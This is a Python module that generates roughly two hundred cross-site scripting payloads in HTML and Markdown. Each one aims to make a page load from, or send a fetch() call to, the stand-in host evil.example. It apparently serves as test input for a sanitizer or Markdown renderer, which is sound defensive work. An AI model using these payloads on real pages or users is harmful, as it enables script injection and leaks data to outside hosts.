"""Two hundred ways to make a page do what it should not, all aimed at a host that must not hear."""

from itertools import product

EVIL = "https://evil.example"
_SCRIPTS = (
    "<script>{js}</script>",
    "<script src={url}></script>",
    "<img src=x onerror={js}>",
    "<img src={url}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><a xlink:href='javascript:{js}'><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<link rel=stylesheet href={url}>",
    "<style>@import '{url}';</style>",
    "<style>*{{background:url({url})}}</style>",
    "<div style='background:url({url})'>x</div>",
    "<base href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<form action={url}><button>x</button></form>",
    "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>x</details>",
    "<video poster={url}><source src={url}></video>",
    "<audio src={url} autoplay></audio>",
    "<body onload={js}>",
    "<a href='javascript:{js}'>x</a>",
    "<a href={url} ping={url}>x</a>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<template><img src=x onerror={js}></template>",
)
_MARKDOWN = (
    "![x]({url})",
    "![x][r]\n\n[r]: {url}",
    "[x](javascript:{js})",
    "[x](JaVaScRiPt:{js})",
    "[x](java\tscript:{js})",
    "[x](data:text/html,<script>{js}</script>)",
    "[x](vbscript:{js})",
    "[x]({url})",
    "[x](//evil.example)",
    "[x](#source-99)",
    "<{url}>",
    "<javascript:{js}>",
    "[x]({url} \"' onmouseover={js} '\")",
    "`<img src=x onerror={js}>`",
)
_WRAPPERS = ("{}", "> {}", "- {}", "| a |\n|---|\n| {} |", "**{}**")


def payloads() -> list[str]:
    """Return each trick plain and inside what Markdown may put around it."""
    js = "document.title=1,fetch('" + EVIL + "')"
    tricks = [trick.format(js=js, url=EVIL) for trick in (*_SCRIPTS, *_MARKDOWN)]
    return [wrapper.format(trick) for trick, wrapper in product(tricks, _WRAPPERS)]
